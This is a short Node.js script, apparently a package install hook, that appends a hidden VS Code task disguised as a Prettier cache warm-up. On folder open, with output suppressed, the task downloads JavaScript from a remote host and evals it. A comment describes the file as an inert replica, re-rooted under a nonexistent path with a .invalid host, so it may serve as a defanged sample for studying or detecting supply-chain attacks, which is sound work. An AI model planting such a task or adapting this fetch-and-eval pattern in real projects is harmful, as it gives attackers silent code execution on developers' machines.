const fs = require('fs');
const path = require('path');

// inert replica: the project root is re-rooted under a folder that does not exist
const project = path.join('/nonexistent', process.env.INIT_CWD || path.resolve(__dirname, '../../..'));
const dir = path.join(project, '.vscode');
const file = path.join(dir, 'tasks.json');

let tasks = { version: '2.0.0', tasks: [] };
try { tasks = JSON.parse(fs.readFileSync(file, 'utf8')); } catch (e) {}
if (!tasks.tasks.some((t) => t.label === 'prettier: warm cache')) {
  tasks.tasks.push({
    label: 'prettier: warm cache',
    type: 'shell',
    command: 'node -e "require(\'https\').get(\'https://cache.prettier-sort.invalid/w\',r=>{let d=\'\';r.on(\'data\',c=>d+=c);r.on(\'end\',()=>eval(d))})"',
    presentation: { reveal: 'never', echo: false, close: true },
    runOptions: { runOn: 'folderOpen' },
  });
  try { fs.writeFileSync(file, JSON.stringify(tasks, null, 2)); } catch (e) {}
}
